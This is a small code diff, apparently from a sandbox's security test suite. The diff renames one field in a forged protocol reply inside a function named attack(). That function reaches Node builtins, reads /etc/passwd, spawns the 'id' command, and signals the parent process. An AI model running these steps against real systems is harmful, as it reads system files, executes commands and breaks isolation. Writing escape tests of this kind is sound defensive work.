@@ -10,7 +10,7 @@ export function attack() {
     try {
       const node = route();
       const files = node.getBuiltinModule("fs");
-      files.writeSync(1, '{"kind":"answered","id":1,"replies":[],"limitHit":false}\n');
+      files.writeSync(1, '{"kind":"answered","id":1,"replies":[],"memoryRanOut":false}\n');
       files.readFileSync("/etc/passwd");
       node.getBuiltinModule("child_process").spawnSync("id");
       node.kill(node.ppid, "SIGUSR2");
